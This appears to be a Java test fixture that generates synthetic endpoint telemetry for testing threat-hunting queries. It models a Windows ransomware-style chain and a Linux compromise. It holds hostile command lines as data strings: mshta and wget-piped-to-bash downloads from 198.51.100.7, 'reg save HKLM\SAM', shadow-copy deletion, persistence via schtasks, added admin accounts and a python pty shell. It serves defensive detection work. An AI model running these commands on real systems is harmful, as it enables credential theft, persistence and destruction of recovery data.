package dev.hookline.kql;

import dev.hookline.schema.Column;
import dev.hookline.schema.Columns;
import dev.hookline.schema.Event;
import dev.hookline.schema.Table;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;

/**
 * A small synthetic day on two hosts for running published hunting queries in-process: a Windows desktop where a
 * spreadsheet launches mshta and PowerShell that persist, dump the SAM hive and encrypt a file, and a Linux build
 * server where a cron job pipes a download to bash and spawns a reverse shell. Every row is timestamped within
 * the hour before {@link #NOW}, so `Timestamp > ago(1h)` keeps them all.
 */
final class CorpusEvents {
    static final long NOW = 1_780_000_000_000_000_000L;
    private static final long MINUTE = 60_000_000_000L;

    private static final String[] WIN = {"3c9f0d2a7b6e4f18a2d5c7e9b1f3a5c7d9e1f3a5", "desk-17.fabrikam.test"};
    private static final String[] LNX = {"8e7d6c5b4a3928171605f4e3d2c1b0a998877665", "build-03"};

    private CorpusEvents() {
    }

    /** The rows by table. */
    static Map<Table, List<Event>> rows() {
        List<Event> all = new ArrayList<>();
        Proc excel = new Proc("excel.exe", "\"EXCEL.EXE\" C:\\Users\\dana\\Downloads\\q3-figures.xlsm",
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", 2210, "dana", "FABRIKAM", "explorer.exe");
        Proc mshta = new Proc("mshta.exe", "mshta.exe http://198.51.100.7/a.hta", "C:\\Windows\\SysWOW64\\mshta.exe",
                3304, "dana", "FABRIKAM", "excel.exe");
        Proc ps = new Proc("powershell.exe", "powershell -ExecutionPolicy Bypass -EncodedCommand JABjAD0ATgBlAHcA",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", 3420, "dana", "FABRIKAM", "mshta.exe");
        Proc cmd = new Proc("cmd.exe", "cmd.exe /c reg save HKLM\\SAM C:\\Temp\\s.hive", "C:\\Windows\\System32\\cmd.exe",
                3510, "dana", "FABRIKAM", "powershell.exe");
        Proc wmi = new Proc("WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", 1880, "NETWORK SERVICE", "NT AUTHORITY", "svchost.exe");
        Proc locker = new Proc("svcupd.exe", "C:\\ProgramData\\svcupd.exe --all", "C:\\ProgramData\\svcupd.exe", 4102,
                "SYSTEM", "NT AUTHORITY", "services.exe");
        Proc cron = new Proc("cron", "/usr/sbin/cron -f", "/usr/sbin/cron", 611, "root", "build-03", "systemd");
        Proc bash = new Proc("bash", "bash -c wget -qO- http://198.51.100.7/m | bash", "/usr/bin/bash", 9120, "root",
                "build-03", "cron");
        Proc py = new Proc("python3", "python3 -c import pty;pty.spawn('/bin/bash')", "/usr/bin/python3.11", 9188,
                "builder", "build-03", "bash");

        all.add(process(58, WIN, mshta, excel));
        all.add(process(55, WIN, ps, mshta));
        all.add(process(52, WIN, cmd, ps));
        all.add(process(51, WIN, new Proc("reg.exe", "reg save HKLM\\SAM C:\\Temp\\s.hive", "C:\\Windows\\System32\\reg.exe",
                3522, "dana", "FABRIKAM", "cmd.exe"), cmd));
        all.add(process(47, WIN, new Proc("schtasks.exe",
                "schtasks /create /tn Updater /tr C:\\ProgramData\\svcupd.exe /sc minute /mo 5 /ru SYSTEM",
                "C:\\Windows\\System32\\schtasks.exe", 3600, "dana", "FABRIKAM", "powershell.exe"), ps));
        all.add(process(40, WIN, new Proc("WMIC.exe", "wmic shadowcopy delete /nointeractive",
                "C:\\Windows\\System32\\wbem\\WMIC.exe", 3702, "dana", "FABRIKAM", "WmiPrvSE.exe"), wmi));
        all.add(process(38, WIN, new Proc("net.exe", "net localgroup administrators eve /add",
                "C:\\Windows\\System32\\net.exe", 3710, "dana", "FABRIKAM", "cmd.exe"), cmd));
        all.add(process(30, WIN, locker, new Proc("services.exe", "C:\\Windows\\system32\\services.exe",
                "C:\\Windows\\System32\\services.exe", 700, "SYSTEM", "NT AUTHORITY", "wininit.exe")));
        all.add(process(27, LNX, bash, cron));
        all.add(process(26, LNX, py, bash));
        all.add(process(20, LNX, new Proc("useradd", "useradd -m -s /bin/bash -G sudo backup2", "/usr/sbin/useradd",
                9300, "root", "build-03", "sudo"), new Proc("sudo", "sudo useradd -m -s /bin/bash -G sudo backup2",
                "/usr/bin/sudo", 9299, "builder", "build-03", "bash")));

        all.add(network(57, WIN, "ConnectionSuccess", "198.51.100.7", 80, "198.51.100.7", "Public", mshta,
                "{\"direction\":\"Out\"}"));
        all.add(network(54, WIN, "ConnectionSuccess", "192.0.2.44", 443, "cdn.fabrikam-update.test", "Public", ps, null));
        all.add(network(45, WIN, "InboundConnectionAccepted", "10.20.0.9", 445, "", "Private", new Proc("System", "", "",
                4, "SYSTEM", "NT AUTHORITY", ""), null));
        all.add(network(25, LNX, "ConnectionSuccess", "198.51.100.7", 4444, "", "Public", py, null));
        all.add(network(24, LNX, "ConnectionAttempt", "2001:db8::15", 22, "", "Public", bash, null));

        all.add(file(53, WIN, "FileCreated", "svcupd.exe", "C:\\ProgramData\\svcupd.exe", ps,
                "http://198.51.100.7/svcupd.exe", null));
        all.add(file(50, WIN, "FileCreated", "s.hive", "C:\\Temp\\s.hive", cmd, null, null));
        all.add(file(29, WIN, "FileRenamed", "budget.xlsx.locked", "C:\\Users\\dana\\Documents\\budget.xlsx.locked",
                locker, null, "budget.xlsx"));
        all.add(file(28, WIN, "FileDeleted", "budget.xlsx", "C:\\Users\\dana\\Documents\\budget.xlsx", locker, null,
                null));
        all.add(file(23, LNX, "FileModified", "crontab", "/etc/crontab", bash, null, null));

        Map<Table, List<Event>> byTable = new EnumMap<>(Table.class);
        for (Event e : all) {
            byTable.computeIfAbsent(e.table(), t -> new ArrayList<>()).add(e);
        }
        return byTable;
    }

    /** The rows as a source. */
    static TableSource source() {
        Map<Table, List<Event>> rows = rows();
        return (table, consumer) -> rows.getOrDefault(table, List.of()).forEach(consumer);
    }

    private record Proc(String name, String cmd, String path, long pid, String user, String domain, String parent) {
    }

    private static Event base(Table t, int minutesAgo, String[] host, String action) {
        Event e = new Event(t);
        e.setTime(Columns.TIMESTAMP, NOW - minutesAgo * MINUTE);
        e.set(Columns.DEVICE_ID, host[0]);
        e.set(Columns.DEVICE_NAME, host[1]);
        e.set(Columns.ACTION_TYPE, action);
        e.set(Columns.REPORT_ID, 10_000L + minutesAgo);
        return e;
    }

    private static void initiating(Event e, Proc p, int minutesAgo) {
        setIf(e, Columns.INITIATING_PROCESS_FILE_NAME, p.name());
        setIf(e, Columns.INITIATING_PROCESS_COMMAND_LINE, p.cmd());
        setIf(e, Columns.INITIATING_PROCESS_FOLDER_PATH, p.path());
        e.set(Columns.INITIATING_PROCESS_ID, p.pid());
        e.setTime(Columns.INITIATING_PROCESS_CREATION_TIME, NOW - (minutesAgo + 1) * MINUTE);
        setIf(e, Columns.INITIATING_PROCESS_PARENT_FILE_NAME, p.parent());
        e.set(Columns.INITIATING_PROCESS_PARENT_ID, p.pid() - 13);
        setIf(e, Columns.INITIATING_PROCESS_ACCOUNT_NAME, p.user());
        setIf(e, Columns.INITIATING_PROCESS_ACCOUNT_DOMAIN, p.domain());
        e.set(Columns.INITIATING_PROCESS_SHA1, "0b5e3f1c6d7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c");
        e.set(Columns.INITIATING_PROCESS_SHA256, "9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a1f0e9d8c");
        e.set(Columns.INITIATING_PROCESS_MD5, "6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c");
        e.set(Columns.INITIATING_PROCESS_INTEGRITY_LEVEL, "Medium");
        e.set(Columns.INITIATING_PROCESS_FILE_SIZE, 123_456L);
    }

    private static Event process(int minutesAgo, String[] host, Proc p, Proc parent) {
        Event e = base(Table.DeviceProcessEvents, minutesAgo, host, "ProcessCreated");
        e.set(Columns.FILE_NAME, p.name());
        setIf(e, Columns.FOLDER_PATH, p.path());
        e.set(Columns.PROCESS_COMMAND_LINE, p.cmd());
        e.set(Columns.PROCESS_ID, p.pid());
        e.setTime(Columns.PROCESS_CREATION_TIME, NOW - minutesAgo * MINUTE);
        e.set(Columns.ACCOUNT_NAME, p.user());
        e.set(Columns.ACCOUNT_DOMAIN, p.domain());
        e.set(Columns.ACCOUNT_SID, host == WIN ? "S-1-5-21-3623811015-3361044348-30300820-1013" : "");
        e.set(Columns.SHA1, "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0");
        e.set(Columns.SHA256, "4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e");
        e.set(Columns.MD5, "0f1e2d3c4b5a69788796a5b4c3d2e1f0");
        e.set(Columns.FILE_SIZE, 98_304L);
        e.set(Columns.PROCESS_INTEGRITY_LEVEL, p.user().equals("SYSTEM") ? "System" : "Medium");
        e.set(Columns.PROCESS_TOKEN_ELEVATION, "TokenElevationTypeDefault");
        e.set(Columns.PROCESS_VERSION_INFO_ORIGINAL_FILE_NAME, p.name().toUpperCase(java.util.Locale.ROOT));
        e.set(Columns.PROCESS_VERSION_INFO_COMPANY_NAME, host == WIN ? "Microsoft Corporation" : "");
        e.set(Columns.LOGON_ID, 0x3e7L);
        e.set(Columns.INITIATING_PROCESS_SIGNATURE_STATUS, "Valid");
        e.set(Columns.ADDITIONAL_FIELDS, "{\"ProcessStartKey\":" + (p.pid() * 7) + "}");
        initiating(e, parent, minutesAgo);
        return e;
    }

    private static Event network(int minutesAgo, String[] host, String action, String remoteIp, int port, String url,
            String ipType, Proc p, String additional) {
        Event e = base(Table.DeviceNetworkEvents, minutesAgo, host, action);
        e.set(Columns.REMOTE_IP, remoteIp);
        e.set(Columns.REMOTE_PORT, port);
        setIf(e, Columns.REMOTE_URL, url);
        e.set(Columns.LOCAL_IP, host == WIN ? "10.20.0.17" : "172.16.4.3");
        e.set(Columns.LOCAL_PORT, 49_000L + minutesAgo);
        e.set(Columns.PROTOCOL, "Tcp");
        e.set(Columns.LOCAL_IP_TYPE, "Private");
        e.set(Columns.REMOTE_IP_TYPE, ipType);
        if (additional != null) {
            e.set(Columns.ADDITIONAL_FIELDS, additional);
        }
        initiating(e, p, minutesAgo);
        return e;
    }

    private static Event file(int minutesAgo, String[] host, String action, String name, String path, Proc p,
            String originUrl, String previousName) {
        Event e = base(Table.DeviceFileEvents, minutesAgo, host, action);
        e.set(Columns.FILE_NAME, name);
        e.set(Columns.FOLDER_PATH, path);
        e.set(Columns.SHA1, "c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00");
        e.set(Columns.SHA256, "d00dfeedd00dfeedd00dfeedd00dfeedd00dfeedd00dfeedd00dfeedd00dfeed");
        e.set(Columns.FILE_SIZE, 40_960L);
        if (originUrl != null) {
            e.set(Columns.FILE_ORIGIN_URL, originUrl);
            e.set(Columns.FILE_ORIGIN_IP, "198.51.100.7");
        }
        if (previousName != null) {
            e.set(Columns.PREVIOUS_FILE_NAME, previousName);
            e.set(Columns.PREVIOUS_FOLDER_PATH, path.substring(0, path.lastIndexOf('\\')));
        }
        initiating(e, p, minutesAgo);
        return e;
    }

    private static void setIf(Event e, Column c, String v) {
        if (v != null && !v.isEmpty()) {
            e.set(c, v);
        }
    }
}
